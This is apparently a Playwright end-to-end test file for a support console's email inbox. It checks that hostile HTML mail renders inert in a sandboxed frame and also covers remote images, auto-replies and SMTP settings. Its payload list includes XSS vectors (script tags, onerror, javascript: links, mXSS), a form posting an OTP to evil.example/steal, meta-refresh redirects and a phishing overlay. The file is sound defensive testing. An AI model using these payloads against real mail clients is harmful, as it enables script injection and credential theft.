import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import type { BrowserContext, Frame, Locator, Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { screenshot, watchForScript } from './browser.ts';
import { browserSession } from './session.ts';

/**
 * Email in the console, in real Chromium: hostile mail posted as raw MIME to an email inbox's upload
 * URL opens in the agent's "full email" view inert — no script runs (no dialog, no flag on the top
 * page, no marker request), nothing navigates, nothing leaves for a foreign host except the remote
 * images the agent chose to show — while Vietnamese text and the inline `cid:` image still show.
 * Then the delivery line of replies (failed, retrying) and the SMTP settings with a write-only password.
 */
const session = browserSession('email');
const api = session.api;

// ---------------------------------------------------------------- raw mail

/** A small solid PNG, so the inline image has real pixels to count. */
function png(width: number, height: number, rgb: [number, number, number]): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3).map((_b, i) => rgb[i % 3]!)]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}
const logo = png(24, 16, [214, 51, 132]);
const remotePng = png(10, 10, [28, 126, 214]);

const b64 = (text: string | Buffer) => (Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8')).toString('base64').replace(/.{76}/g, '$&\r\n');
const word = (text: string) => `=?UTF-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;

interface Mail { from: string; fromName: string; subject: string; messageId: string; html?: string; text: string; headers?: Record<string, string>; inline?: boolean }

/** multipart/related (alternative text + HTML, and the inline logo) as a mail client sends it. */
function mime(m: Mail): string {
  const head = [
    `From: ${word(m.fromName)} <${m.from}>`, 'To: hotro@hoamai.vn', `Subject: ${word(m.subject)}`, `Message-ID: <${m.messageId}>`,
    'Date: Mon, 12 May 2025 10:00:00 +0700', 'MIME-Version: 1.0', ...Object.entries(m.headers ?? {}).map(([k, v]) => `${k}: ${v}`),
  ];
  const text = ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64', '', b64(m.text)];
  if (!m.html) return [...head, ...text, ''].join('\r\n');
  const alternative = [
    'Content-Type: multipart/alternative; boundary="alt-b"', '', '--alt-b', ...text,
    '--alt-b', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '', b64(m.html), '--alt-b--', '',
  ];
  if (m.inline === false) return [...head, ...alternative].join('\r\n');
  return [
    ...head, 'Content-Type: multipart/related; boundary="rel-b"', '', '--rel-b', ...alternative,
    '--rel-b', 'Content-Type: image/png; name="logo.png"', 'Content-Transfer-Encoding: base64', 'Content-ID: <logo@hoamai.vn>',
    'Content-Disposition: inline; filename="logo.png"', '', b64(logo), '--rel-b--', '',
  ].join('\r\n');
}

/**
 * Each payload tries to run script on the console page (a flag on `window.top`, a dialog, a request to
 * a marker path), to navigate, to submit a form, or to load something from a foreign host.
 */
const payloads: { name: string; html: string }[] = [
  { name: 'script', html: `<script>window.top.__pwned='script';alert('script');fetch('/__pwned/script')</script>` },
  { name: 'img-onerror', html: `<img src=x onerror="window.top.__pwned='onerror';alert('onerror');fetch('/__pwned/onerror')">` },
  { name: 'javascript-href', html: `<p><a href="javascript:window.top.__pwned='href';alert('href')">Bấm vào đây để nhận quà</a></p><p><a href=" java&#9;script:alert('tab')">Link lạ</a></p>` },
  { name: 'svg-script', html: `<svg><script>window.top.__pwned='svg';alert('svg')</script></svg><svg onload="window.top.__pwned='svg-onload'"><animate onbegin="alert('animate')" attributeName="x" dur="1s"/></svg>` },
  { name: 'math-mxss', html: `<math><mtext><table><mglyph><style><img src=x onerror="window.top.__pwned='mxss';alert('mxss')">` },
  { name: 'iframe', html: `<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>top.__pwned='srcdoc'</script>"></iframe><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">` },
  { name: 'form', html: `<form action="https://evil.example/steal" method="post"><input name="otp" value="123456" autofocus onfocus="alert('focus')"><button type="submit">Xác nhận mã OTP</button></form>` },
  { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">` },
  { name: 'style-tag', html: `<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/style-bg)} *{color:red !important}</style>` },
  { name: 'style-url-javascript', html: `<div style="background:url(javascript:alert('css'));background-image:url('https://evil.example/inline-bg');width:120px;height:20px">nền</div><div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/xbl)">cũ</div>` },
  { name: 'fixed-overlay', html: `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(200,0,0,.95);color:white;font-size:40px">Phiên đăng nhập hết hạn — nhập lại mật khẩu</div>` },
];
// …and all of them in one mail, where one payload's leftovers could meet another's.
payloads.push({ name: 'all-together', html: payloads.map((p) => p.html).join('\n') });

const greeting = (name: string) => `Xin chào shop, đơn hàng của tôi bị giao trễ — thử nghiệm “${name}”. Cảm ơn ạ!`;
const hostileMail = (name: string, i: number): Mail => ({
  from: `khach.${i}@example.vn`, fromName: `Phạm Thu Hà ${i}`, subject: `Đơn hàng giao trễ (${name})`, messageId: `hostile-${i}@example.vn`,
  text: greeting(name),
  // The payload comes last: an unclosed <math> or <svg> makes the sanitiser drop everything after it.
  html: `<div dir="ltr"><p>${greeting(name)}</p><p><img src="cid:logo@hoamai.vn" alt="logo" width="24" height="16"></p>`
    + `<p>Ảnh chụp gói hàng:</p><p><img src="https://images.example/goi-hang-${i}.png" alt="ảnh bên ngoài"></p></div>${payloads[i]!.html}`,
});

// A normal customer mail with a Gmail-style quote, and later an automatic reply in its thread.
const quotedMail: Mail = {
  from: 'ha.pham@example.vn', fromName: 'Phạm Thu Hà', subject: 'Hỏi về đơn hàng #1001', messageId: 'quoted-1@example.vn',
  text: 'Shop ơi, bao giờ đơn #1001 tới ạ?\n\nVào Th 2, 12 thg 5, 2025 vào lúc 10:00 Shop Hoa Mai <hotro@hoamai.vn> đã viết:\n> Cảm ơn chị đã đặt hàng ở Hoa Mai.',
  html: '<div dir="ltr">Shop ơi, bao giờ đơn #1001 tới ạ?</div><br><div class="gmail_quote"><div class="gmail_attr">Vào Th 2, 12 thg 5, 2025 vào lúc 10:00 Shop Hoa Mai &lt;hotro@hoamai.vn&gt; đã viết:<br></div>'
    + '<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">Cảm ơn chị đã đặt hàng ở Hoa Mai.</blockquote></div>',
};
const autoReply: Mail = {
  from: 'ha.pham@example.vn', fromName: 'Phạm Thu Hà', subject: 'Trả lời tự động: Hỏi về đơn hàng #1001', messageId: 'ooo-1@example.vn',
  text: 'Tôi đang nghỉ phép đến thứ Hai, sẽ trả lời khi quay lại.', headers: { 'Auto-Submitted': 'auto-replied', 'In-Reply-To': '<quoted-1@example.vn>' },
};

// ---------------------------------------------------------------- browser helpers

/** Requests that leave the console's own origin, and the marker requests payloads try; remote images are served. */
function watchNetwork(context: BrowserContext, origin: string) {
  const seen = { offsite: [] as string[], markers: [] as string[], remoteImages: [] as string[] };
  void context.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    if (url.origin === origin) {
      if (url.pathname.startsWith('/__pwned')) { seen.markers.push(url.href); return route.fulfill({ status: 204 }); }
      return route.continue();
    }
    if (url.hostname === 'images.example') { seen.remoteImages.push(url.href); return route.fulfill({ status: 200, contentType: 'image/png', body: remotePng }); }
    seen.offsite.push(url.href);
    return route.abort();
  });
  return seen;
}

async function frameOf(locator: Locator): Promise<Frame> {
  const frame = await (await locator.elementHandle())?.contentFrame();
  if (!frame) throw new Error('no frame');
  return frame;
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

/** A tiny SMTP server that greylists every recipient (451), as a real one does to strangers. */
function greylistingSmtp(): Promise<{ port: number; server: Server }> {
  const server = createServer((socket) => {
    socket.write('220 mx.test ESMTP\r\n');
    let buffer = '';
    socket.on('data', (d) => {
      buffer += String(d);
      let nl: number;
      while ((nl = buffer.indexOf('\r\n')) >= 0) {
        const line = buffer.slice(0, nl).toUpperCase();
        buffer = buffer.slice(nl + 2);
        if (line.startsWith('EHLO') || line.startsWith('HELO')) socket.write('250-mx.test\r\n250 AUTH PLAIN LOGIN\r\n');
        else if (line.startsWith('AUTH')) socket.write('235 2.7.0 Authentication successful\r\n');
        else if (line.startsWith('MAIL')) socket.write('250 2.1.0 OK\r\n');
        else if (line.startsWith('RCPT')) socket.write('451 4.7.1 Greylisted, please try again later\r\n');
        else if (line.startsWith('QUIT')) socket.end('221 2.0.0 Bye\r\n');
        else if (line.startsWith('RSET') || line.startsWith('NOOP')) socket.write('250 2.0.0 OK\r\n');
        else socket.write('502 5.5.2 Not implemented\r\n');
      }
    });
    socket.on('error', () => undefined);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ port: (server.address() as { port: number }).port, server })));
}

// ---------------------------------------------------------------- the journey

describe('email in the console: hostile mail renders inert', () => {
  let owner: Page;
  let network: ReturnType<typeof watchNetwork>;
  let inbox: { id: string; email: { rawUploadUrl: string } };
  const problems: string[] = [];
  const stored = new Map<string, { conversationId: string; messageId: string }>();
  let smtp: { port: number; server: Server } | null = null;
  afterAll(() => { smtp?.server.close(); });

  const upload = async (mail: Mail) => {
    const res = await fetch(inbox.email.rawUploadUrl, { method: 'POST', headers: { 'content-type': 'message/rfc822' }, body: mime(mail) });
    const body = await res.json() as { outcome: string; messageId: string; conversationId: string };
    expect(res.status, JSON.stringify(body)).toBe(201);
    expect(body.outcome).toBe('stored');
    return body;
  };

  /** Open a conversation and the full email view of the message containing `text`. */
  const openEmail = async (conversationId: string, text: string) => {
    await owner.goto(`${session.server.url}/conversations/${conversationId}`);
    const message = owner.getByTestId('message').filter({ hasText: text });
    await message.waitFor({ timeout: 15_000 });
    // The button says whether the full view is open (aria-expanded): click until it is, once the
    // timeline has settled (its first render may come from the cache, then the server's page).
    const button = message.getByTestId('email-show-full');
    await expect.poll(async () => {
      if ((await button.getAttribute('aria-expanded')) !== 'true') await button.click();
      return message.getByTestId('email-full').isVisible();
    }, { timeout: 30_000, interval: 1500 }).toBe(true);
    return message;
  };

  it('an email inbox takes raw mail from its upload URL', async () => {
    owner = await session.newPage();
    problems.push(...watchForScript(owner));
    network = watchNetwork(owner.context(), session.server.url);
    await session.setUpShop(owner);
    inbox = await api(owner, 'POST', '/api/v1/inboxes', { name: 'Hỗ trợ qua email', channel: 'email', email: { address: 'hotro@hoamai.vn', displayName: 'Shop Hoa Mai' } });
    expect(inbox.email.rawUploadUrl).toContain(`/api/email/inbound/${inbox.id}?token=`);
    for (const [i, p] of payloads.entries()) stored.set(p.name, await upload(hostileMail(p.name, i)));
    stored.set('quoted', await upload(quotedMail));
  });

  for (const [i, payload] of payloads.entries()) {
    it(`"${payload.name}" stays inert, with the Vietnamese text and the inline image shown`, async () => {
      const { conversationId, messageId } = stored.get(payload.name)!;
      const facts = await api(owner, 'GET', `/api/v1/email/messages/${messageId}`);
      expect(facts.blockedImages).toBe(1);
      const pageUrl = `${session.server.url}/conversations/${conversationId}`;
      const message = await openEmail(conversationId, 'Xin chào shop');
      await message.getByTestId('email-subject').getByText(`Đơn hàng giao trễ (${payload.name})`).waitFor();

      // The frame: sandboxed without scripts, same origin, forms or top navigation; the CSP is its first word.
      const frameElement = message.getByTestId('email-frame');
      const sandbox = (await frameElement.getAttribute('sandbox'))!.split(/\s+/).filter(Boolean);
      for (const forbidden of ['allow-scripts', 'allow-same-origin', 'allow-forms', 'allow-top-navigation', 'allow-modals']) expect(sandbox).not.toContain(forbidden);
      const srcdoc = (await frameElement.getAttribute('srcdoc'))!;
      expect(srcdoc).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src https: data: http:\/\/127\.0\.0\.1:\d+; style-src 'unsafe-inline'; form-action 'none'">/);
      expect(srcdoc).not.toMatch(/<script|onerror=|javascript:|<iframe|<form|<meta http-equiv="refresh"|<svg|<math|<style>@import|position:\s*fixed/i);

      const frame = await frameOf(frameElement);
      const inside = owner.frameLocator(`[data-testid=email-frame]`);
      await inside.getByText(greeting(payload.name)).waitFor({ timeout: 10_000 });
      expect(await inside.getByText(greeting(payload.name)).isVisible()).toBe(true);
      await expect.poll(() => frame.locator('img[alt="logo"]').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth), { timeout: 10_000 }).toBe(24);
      expect(await frame.locator('script, iframe, object, embed, form, input, svg, math, meta[http-equiv="refresh" i], base[href], link, body style').count()).toBe(0);
      expect(frame.childFrames()).toEqual([]);

      // The remote image is held back until the agent asks for it: not in the markup, not fetched.
      const remoteUrl = `https://images.example/goi-hang-${i}.png`;
      expect(await frame.locator('img[data-remote-src]').count()).toBe(1);
      expect(await frame.locator('img[src^="https://images.example/"]').count()).toBe(0);
      expect(network.remoteImages).not.toContain(remoteUrl);
      await message.getByTestId('email-show-remote').click();
      await message.getByTestId('email-remote-images').and(owner.locator('[data-state=shown]')).waitFor();
      await frame.locator(`img[src="${remoteUrl}"]`).waitFor({ state: 'attached', timeout: 10_000 });
      expect(await frame.locator('img[data-remote-src]').count()).toBe(0);
      await inside.getByText(greeting(payload.name)).waitFor(); // re-rendered, still readable
      await expect.poll(() => frame.locator('img[alt="logo"]').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth), { timeout: 10_000 }).toBe(24);

      // Click what a customer would want clicked: nothing runs, nothing navigates.
      if (payload.name === 'javascript-href') {
        const popups: Page[] = [];
        owner.context().on('page', (p) => popups.push(p));
        await inside.getByText('Bấm vào đây để nhận quà').click();
        await inside.getByText('Link lạ').click();
        await owner.waitForTimeout(500);
        expect(popups).toEqual([]);
      }
      if (payload.name === 'form') expect(await frame.locator('button, input, select, textarea').count()).toBe(0); // its words stay, as text
      // Whatever the mail draws stays inside its frame: the composer can still be clicked.
      await owner.getByTestId('composer-input').click({ timeout: 5_000 });

      await owner.waitForTimeout(300); // time for a meta refresh or a late handler to fire, if anything could
      expect(await pwned(owner)).toBeUndefined();
      expect(owner.url()).toBe(pageUrl);
      expect(frame.url()).toBe('about:srcdoc');
      expect(frame.isDetached()).toBe(false);
      expect(network.markers).toEqual([]);
      expect(network.offsite).toEqual([]);
      expect(problems).toEqual([]);
      if (payload.name === 'all-together') await screenshot(owner, 'email-hostile-all-together');
    });
  }

  it('the remote images the agent asked for load, from where the mail said and nowhere else', async () => {
    const i = payloads.findIndex((p) => p.name === 'all-together');
    const remoteUrl = `https://images.example/goi-hang-${i}.png`;
    const message = await openEmail(stored.get('all-together')!.conversationId, 'Xin chào shop');
    const frame = await frameOf(message.getByTestId('email-frame'));
    await message.getByTestId('email-show-remote').click();
    const image = frame.locator(`img[src="${remoteUrl}"]`);
    await image.waitFor({ state: 'attached', timeout: 10_000 });
    // The frame's own CSP allows https images; the console page's CSP must allow them too (a srcdoc frame inherits it).
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth), { timeout: 10_000 }).toBe(10);
    expect(network.remoteImages).toContain(remoteUrl);
    for (const url of network.remoteImages) expect(url).toMatch(/^https:\/\/images\.example\/goi-hang-\d+\.png$/);
    expect(network.offsite).toEqual([]);
    await screenshot(owner, 'email-remote-images');
  });

  it('the quoted part is one click away, and the original downloads as .eml', async () => {
    const { conversationId } = stored.get('quoted')!;
    await owner.goto(`${session.server.url}/conversations/${conversationId}`);
    const message = owner.getByTestId('message').filter({ hasText: 'bao giờ đơn #1001 tới' });
    await message.waitFor({ timeout: 15_000 });
    expect(await message.getByTestId('message-body').textContent()).not.toContain('Cảm ơn chị đã đặt hàng');
    await message.getByTestId('email-show-quoted').click();
    await owner.frameLocator('[data-testid=email-quoted-frame]').getByText('Cảm ơn chị đã đặt hàng ở Hoa Mai.').waitFor({ timeout: 10_000 });
    expect(await message.getByTestId('email-quoted-frame').getAttribute('sandbox')).not.toContain('allow-scripts');

    await message.getByTestId('email-show-full').click();
    expect(await message.getByTestId('email-from').textContent()).toContain('Phạm Thu Hà <ha.pham@example.vn>');
    expect(await message.getByTestId('email-to').textContent()).toContain('hotro@hoamai.vn');
    expect(await message.getByTestId('email-classification').count()).toBe(0);
    const [download] = await Promise.all([owner.waitForEvent('download'), message.getByTestId('email-download').click()]);
    const eml = readFileSync((await download.path())!, 'utf8');
    expect(eml).toContain('Message-ID: <quoted-1@example.vn>');
    expect(download.suggestedFilename()).toMatch(/\.eml$/);
    expect(problems).toEqual([]);
  });

  it('an automatic reply shows as machine mail, text only', async () => {
    const { conversationId } = stored.get('quoted')!;
    const ooo = await upload(autoReply);
    expect(ooo.conversationId).toBe(conversationId);
    await owner.goto(`${session.server.url}/conversations/${conversationId}`);
    const note = owner.locator(`[data-testid=message][data-message-id="${ooo.messageId}"]`);
    await note.waitFor({ timeout: 15_000 });
    await note.getByTestId('email-show-full').click();
    await note.getByTestId('email-classification').and(owner.locator('[data-kind=auto_reply]')).waitFor();
    expect(await note.getByTestId('email-classification').textContent()).toBe('Trả lời tự động');
    expect(await note.getByTestId('email-text').textContent()).toContain('Tôi đang nghỉ phép đến thứ Hai');
    expect(await note.getByTestId('email-frame').count()).toBe(0);
  });

  it('a reply from an inbox without SMTP says why it failed', async () => {
    const { conversationId } = stored.get('quoted')!;
    await owner.goto(`${session.server.url}/conversations/${conversationId}`);
    await owner.getByTestId('composer-input').fill('Dạ đơn #1001 sẽ tới trong hôm nay ạ.');
    await owner.getByTestId('composer-send').click();
    const reply = owner.getByTestId('message').filter({ hasText: 'Dạ đơn #1001 sẽ tới trong hôm nay ạ.' });
    const note = reply.getByTestId('delivery-note');
    await note.and(owner.locator('[data-note=failed]')).waitFor({ timeout: 20_000 });
    expect(await note.textContent()).toMatch(/^Gửi thất bại: .*SMTP/);
    expect(await reply.getByTestId('delivery-status').getAttribute('data-status')).toBe('failed');
  });

  it('the admin sets SMTP up in the settings; the password stays write-only', async () => {
    smtp = await greylistingSmtp();
    await owner.goto(`${session.server.url}/settings/inboxes/${inbox.id}`);
    await owner.getByTestId('email-inbox-form').waitFor({ timeout: 15_000 });
    expect(await owner.getByTestId('email-upload-url').textContent()).toBe(inbox.email.rawUploadUrl);
    expect(await owner.getByTestId('email-smtp-enabled').isChecked()).toBe(false);
    await owner.getByTestId('email-smtp-enabled').check();
    await owner.getByTestId('email-smtp-host').fill('127.0.0.1');
    await owner.getByTestId('email-smtp-security').click();
    await owner.getByRole('option', { name: 'Không mã hoá' }).click();
    expect(await owner.getByTestId('email-smtp-port').inputValue()).toBe('25'); // followed the security
    await owner.getByTestId('email-smtp-port').fill(String(smtp.port));
    await owner.getByTestId('email-smtp-username').fill('hotro@hoamai.vn');
    await owner.getByTestId('email-smtp-password').fill('mật khẩu ứng dụng');
    await owner.getByTestId('email-settings-save').click();
    await expect.poll(async () => (await api(owner, 'GET', `/api/v1/inboxes/${inbox.id}`)).email.smtp, { timeout: 10_000 })
      .toMatchObject({ host: '127.0.0.1', port: smtp.port, security: 'none', username: 'hotro@hoamai.vn', hasPassword: true });

    // Saved: the field is empty and says so; another change leaves the password alone.
    const password = owner.getByTestId('email-smtp-password');
    await owner.locator('[data-testid=email-smtp-password][data-saved=true]').waitFor();
    expect(await password.inputValue()).toBe('');
    await owner.getByText('Đã lưu mật khẩu — để trống để giữ nguyên.').waitFor();
    await owner.getByTestId('email-display-name').fill('Shop Hoa Mai — CSKH');
    await owner.getByTestId('email-settings-save').click();
    await expect.poll(async () => (await api(owner, 'GET', `/api/v1/inboxes/${inbox.id}`)).email.displayName, { timeout: 10_000 }).toBe('Shop Hoa Mai — CSKH');
    expect((await api(owner, 'GET', `/api/v1/inboxes/${inbox.id}`)).email.smtp.hasPassword).toBe(true);
    await screenshot(owner, 'email-inbox-settings');
  });

  it('the admin creates another email inbox from the console, choosing the channel', async () => {
    await owner.goto(`${session.server.url}/settings/inboxes`);
    await owner.getByTestId('inbox-create').click();
    await owner.getByTestId('inbox-kind').getByText('Email').click();
    await owner.getByTestId('email-name').fill('Đơn sỉ');
    await owner.getByTestId('email-address').fill('si@hoamai.vn');
    await owner.getByTestId('email-settings-save').click();
    await owner.getByText('Nhập tên máy chủ, ví dụ smtp.shop.vn').waitFor(); // SMTP is on by default: it needs a server
    await owner.getByTestId('email-smtp-enabled').uncheck();
    await owner.getByTestId('email-smtp-off').waitFor();
    await owner.getByTestId('email-settings-save').click();
    await owner.waitForURL((url) => /^\/settings\/inboxes\/[^/]+$/.test(url.pathname), { timeout: 10_000 });
    const created = (await api(owner, 'GET', '/api/v1/inboxes')).find((i: { name: string }) => i.name === 'Đơn sỉ');
    expect(created).toMatchObject({ channel: 'email', settings: null, email: { address: 'si@hoamai.vn', smtp: null, imap: null } });
    expect(await owner.getByTestId('email-upload-url').textContent()).toBe(created.email.rawUploadUrl);
    await owner.getByTestId('email-reply-domain-note').getByText('reply+…@hoamai.vn', { exact: false }).waitFor();
  });

  it('a reply the mail server greylists shows it is being retried, and why', async () => {
    const { conversationId } = stored.get('img-onerror')!;
    await owner.goto(`${session.server.url}/conversations/${conversationId}`);
    await owner.getByTestId('composer-input').fill('Shop xin lỗi chị, shop gửi bù ngay ạ.');
    await owner.getByTestId('composer-send').click();
    const reply = owner.getByTestId('message').filter({ hasText: 'Shop xin lỗi chị, shop gửi bù ngay ạ.' });
    const note = reply.getByTestId('delivery-note');
    await note.and(owner.locator('[data-note=retrying]')).waitFor({ timeout: 30_000 });
    expect(await note.textContent()).toMatch(/^Đang thử lại: SMTP 451.*Greylisted/);
    expect(await reply.getByTestId('delivery-status').getAttribute('data-status')).toBe('sending');
    await screenshot(owner, 'email-delivery-retrying');
    expect(await pwned(owner)).toBeUndefined();
    expect(problems).toEqual([]);
  });
});
